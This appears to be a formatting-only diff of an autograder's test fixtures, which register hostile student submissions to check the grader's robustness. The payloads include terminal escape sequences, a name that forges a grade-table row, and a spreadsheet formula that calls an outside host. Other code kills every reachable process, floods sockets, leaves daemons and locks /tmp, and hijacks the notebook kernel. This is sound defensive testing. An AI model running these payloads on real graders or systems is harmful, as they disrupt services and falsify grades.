@@ -67,9 +67,11 @@ CASES = []
 
 def case(family, expect, says=""):
     """Register a hostile case (see the module docstring); its docstring is its story."""
+
     def register(write):
         CASES.append(Hostile(write.__name__, family, (write.__doc__ or "").strip(), write, expect, says))
         return write
+
     return register
 
 
@@ -91,8 +93,10 @@ def _with_extra_cell(class_dir, student_id, source):
     """A student with the reference answers and one more code cell (not an answer) holding ``source``."""
     folder = student_with(class_dir, student_id)
     data = _notebook_json(folder)
-    data["cells"].insert(1, {"cell_type": "code", "execution_count": None, "id": "extra", "metadata": {},
-                             "outputs": [], "source": source})
+    data["cells"].insert(
+        1,
+        {"cell_type": "code", "execution_count": None, "id": "extra", "metadata": {}, "outputs": [], "source": source},
+    )
     _write_json(folder / NOTEBOOK, data)
     return student_id
 
@@ -113,8 +117,11 @@ def _with_metadata_text(folder, text, name=NOTEBOOK, cell_level=False):
 # ------------------------------------------------------------------------------------------ honest students
 HONEST = {
     "aa_honest_reference": {},
-    "mm_honest_mistakes": {m.exercise: m.source for m in list(mistakes().values())
-                           if m.exercise in ("rot_z", "compose") and m.kind == "mistake"},
+    "mm_honest_mistakes": {
+        m.exercise: m.source
+        for m in list(mistakes().values())
+        if m.exercise in ("rot_z", "compose") and m.kind == "mistake"
+    },
     "zz_honest_stubs": None,
 }
 
@@ -263,25 +270,70 @@ def hidden_student_folder(class_dir):
 
 # ------------------------------------------------------------------------------------------ names
 NAMES = [  # (case, student id, story, expect, answers)
-    ("name_of_250_bytes", "L" * 250,
-     "a folder name of 250 bytes (a file name made from it plus a suffix would pass NAME_MAX)", "full", "reference"),
-    ("two_long_names_that_share_200_characters", "S" * 200 + "-one",
-     "two long names that differ only at the end: their file names must not collide (this one hands in the "
-     "stubs, the other the reference answers)", "graded", STUB),
-    ("the_other_long_name", "S" * 200 + "-two",
-     "the second of the two long names (a collision would mix the grades up)", "full", "reference"),
-    ("multibyte_name_of_254_bytes", "é" * 127,
-     "127 two-byte characters: every one is escaped in a file name, which then has to be cut", "full", "reference"),
-    ("escape_sequences_in_the_name", "esc\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
-     "a name that clears the instructor's screen, moves the cursor and sets the window title", "full", "reference"),
-    ("newline_that_forges_a_row", "forger\nzz_victim                 12 ∕ 12  graded",  # "/" cannot be in a name
-     "a name whose second line looks like another student's full marks in the grade table", "graded", STUB),
-    ("bytes_that_are_not_utf8", os.fsdecode(b"latin\xe9-\xff"),
-     "a folder name with bytes that are not UTF-8 (lone surrogates once decoded)", "full", "reference"),
-    ("control_and_bidi_characters", "ctl\t\r\x7f\u202edesrever\u202c\u200b",
-     "tab, carriage return, DEL, a right-to-left override and a zero-width space in the name", "full", "reference"),
-    ("spreadsheet_formula_name", '=HYPERLINK("http:∕∕x.invalid∕?"&A1,"ok")',
-     "a name a spreadsheet would evaluate as a formula", "full", "reference"),
+    (
+        "name_of_250_bytes",
+        "L" * 250,
+        "a folder name of 250 bytes (a file name made from it plus a suffix would pass NAME_MAX)",
+        "full",
+        "reference",
+    ),
+    (
+        "two_long_names_that_share_200_characters",
+        "S" * 200 + "-one",
+        "two long names that differ only at the end: their file names must not collide (this one hands in the "
+        "stubs, the other the reference answers)",
+        "graded",
+        STUB,
+    ),
+    (
+        "the_other_long_name",
+        "S" * 200 + "-two",
+        "the second of the two long names (a collision would mix the grades up)",
+        "full",
+        "reference",
+    ),
+    (
+        "multibyte_name_of_254_bytes",
+        "é" * 127,
+        "127 two-byte characters: every one is escaped in a file name, which then has to be cut",
+        "full",
+        "reference",
+    ),
+    (
+        "escape_sequences_in_the_name",
+        "esc\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
+        "a name that clears the instructor's screen, moves the cursor and sets the window title",
+        "full",
+        "reference",
+    ),
+    (
+        "newline_that_forges_a_row",
+        "forger\nzz_victim                 12 ∕ 12  graded",  # "/" cannot be in a name
+        "a name whose second line looks like another student's full marks in the grade table",
+        "graded",
+        STUB,
+    ),
+    (
+        "bytes_that_are_not_utf8",
+        os.fsdecode(b"latin\xe9-\xff"),
+        "a folder name with bytes that are not UTF-8 (lone surrogates once decoded)",
+        "full",
+        "reference",
+    ),
+    (
+        "control_and_bidi_characters",
+        "ctl\t\r\x7f\u202edesrever\u202c\u200b",
+        "tab, carriage return, DEL, a right-to-left override and a zero-width space in the name",
+        "full",
+        "reference",
+    ),
+    (
+        "spreadsheet_formula_name",
+        '=HYPERLINK("http:∕∕x.invalid∕?"&A1,"ok")',
+        "a name a spreadsheet would evaluate as a formula",
+        "full",
+        "reference",
+    ),
 ]
 
 
@@ -289,6 +341,7 @@ def _named(student_id, story, answers):
     def write(class_dir):
         student_with(class_dir, student_id, default=answers)
         return student_id
+
     write.__doc__ = story
     return write
 
@@ -375,8 +428,9 @@ def a_million_numbers_and_keys(class_dir):
     """cell metadata of an object with 600,000 keys and a list of 600,000 numbers (each costs the parser
     memory; no bracket to count)"""
     keys = "{" + ",".join(f'"k{i}":0' for i in range(600_000)) + "}"
-    _with_metadata_text(student_with(class_dir, "many_values"), f'[{keys},[{",".join(["1e9"] * 600_000)}]]',
-                        cell_level=True)
+    _with_metadata_text(
+        student_with(class_dir, "many_values"), f"[{keys},[{','.join(['1e9'] * 600_000)}]]", cell_level=True
+    )
     return "many_values"
 
 
@@ -419,17 +473,25 @@ def a_cell_of_fifteen_megabytes(class_dir):
 @case("encoding", "exercises")
 def prints_lone_surrogates(class_dir):
     """rot_z prints text no encoder accepts, then returns the right answer"""
-    student_with(class_dir, "prints_surrogates", {
-        "rot_z": "def rot_z(a):\n    print('\\ud800\\udfff \\x1b[2J')\n    c, s = np.cos(a), np.sin(a)\n"
-                 "    return np.array([[c, -s, 0.0], [s, c, 0.0], [0.0, 0.0, 1.0]])\n"})
+    student_with(
+        class_dir,
+        "prints_surrogates",
+        {
+            "rot_z": "def rot_z(a):\n    print('\\ud800\\udfff \\x1b[2J')\n    c, s = np.cos(a), np.sin(a)\n"
+            "    return np.array([[c, -s, 0.0], [s, c, 0.0], [0.0, 0.0, 1.0]])\n"
+        },
+    )
     return "prints_surrogates"
 
 
 @case("encoding", "graded")
 def raises_lone_surrogates(class_dir):
     """rot_x raises an error whose message holds a lone surrogate and escape sequences"""
-    student_with(class_dir, "raises_surrogates",
-                 {"rot_x": "def rot_x(a):\n    raise ValueError('\\udcff\\x1b[2J\\x1b]0;owned\\x07')\n"})
+    student_with(
+        class_dir,
+        "raises_surrogates",
+        {"rot_x": "def rot_x(a):\n    raise ValueError('\\udcff\\x1b[2J\\x1b]0;owned\\x07')\n"},
+    )
     return "raises_surrogates"
 
 
@@ -470,9 +532,17 @@ def metadata_of_the_wrong_types(class_dir):
     for cell in data["cells"]:
         if cell["cell_type"] == "markdown":
             cell["metadata"] = {"nbgrader": "yes", "tags": 7}
-    data["cells"].insert(1, {"cell_type": "code", "execution_count": "x", "id": "odd", "outputs": {},
-                             "metadata": {"nbgrader": {"grade_id": {"a": 1}, "solution": [1]}},
-                             "source": ["def rot_q():\n", "    return 1\n"]})
+    data["cells"].insert(
+        1,
+        {
+            "cell_type": "code",
+            "execution_count": "x",
+            "id": "odd",
+            "outputs": {},
+            "metadata": {"nbgrader": {"grade_id": {"a": 1}, "solution": [1]}},
+            "source": ["def rot_q():\n", "    return 1\n"],
+        },
+    )
     _write_json(folder / NOTEBOOK, data)
     return "wrong_types"
 
@@ -489,8 +559,10 @@ def commands(base, class_dir, out, mode):
     status = [sys.executable, "-m", "autograder", "status", "--out", str(out)]
     if mode == "ordinary user":
         ordinary_user.give_to_ordinary_user(out, cache, home)
-        grade, status = (ordinary_user.as_ordinary_user(command, reach=[PROJECT_ROOT, base], holds=Path(base) / "holds")
-                         for command in (grade, status))
+        grade, status = (
+            ordinary_user.as_ordinary_user(command, reach=[PROJECT_ROOT, base], holds=Path(base) / "holds")
+            for command in (grade, status)
+        )
     return grade, status, env
 
 
@@ -519,7 +591,11 @@ def _answer_with(class_dir, student_id, exercise, attack):
 def leaves_everything_for_the_next_student(class_dir):
     """leaves a detached daemon, System V and POSIX IPC objects, keys in every keyring, a tree 3,000
     folders deep and a locked /tmp for whoever comes next in the slot"""
-    return _answer_with(class_dir, "leaves_things", "rot_x", """
+    return _answer_with(
+        class_dir,
+        "leaves_things",
+        "rot_x",
+        """
 import ctypes, os, time
 if os.fork() == 0:
     os.setsid()
@@ -538,7 +614,8 @@ for _ in range(3000):
     os.mkdir("d"); os.chdir("d")
 os.chdir("/")
 os.chmod("/tmp", 0)
-""")
+""",
+    )
 
 
 @case("sandbox", "graded", "longer than")
@@ -547,9 +624,11 @@ def floods_its_reply_socket(class_dir):
     from support import references
 
     source = references()["rot_y"].replace("def rot_y(", "def _rot_y(")
-    source += ("\nimport os\ndef rot_y(a):\n    for fd in range(3, 64):\n        try:\n"
-               "            os.write(fd, b'[' * (80 * 1024 * 1024))\n        except OSError:\n"
-               "            pass\n    return _rot_y(a)\n")
+    source += (
+        "\nimport os\ndef rot_y(a):\n    for fd in range(3, 64):\n        try:\n"
+        "            os.write(fd, b'[' * (80 * 1024 * 1024))\n        except OSError:\n"
+        "            pass\n    return _rot_y(a)\n"
+    )
     student_with(class_dir, "floods_socket", {"rot_y": source})
     return "floods_socket"
 
@@ -564,7 +643,11 @@ def answers_with_six_million_lists(class_dir):
 @case("sandbox", "exercises")
 def kills_its_feeder_and_everything(class_dir):
     """at load, signals its parent, PID 1 and every process it can reach with SIGKILL and SIGSTOP"""
-    return _answer_with(class_dir, "kills_everything", "compose", """
+    return _answer_with(
+        class_dir,
+        "kills_everything",
+        "compose",
+        """
 import os, signal
 for _target in (os.getppid(), 1, -1):
     for _number in (signal.SIGSTOP, signal.SIGKILL):
@@ -572,18 +655,24 @@ for _target in (os.getppid(), 1, -1):
             os.kill(_target, _number)
         except OSError:
             pass
-""")
+""",
+    )
 
 
 @case("sandbox", "exercises")
 def rewrites_the_notebooks_kernel(class_dir):
     """installs an IPython input transformer that would replace every later cell of the notebook stage"""
-    return _answer_with(class_dir, "rewrites_kernel", "invert_rotation", """
+    return _answer_with(
+        class_dir,
+        "rewrites_kernel",
+        "invert_rotation",
+        """
 try:
     get_ipython().input_transformers_post.append(lambda lines: ["raise SystemExit\\n"])
 except NameError:
     pass
-""")
+""",
+    )
 
 
 def build_class(class_dir):
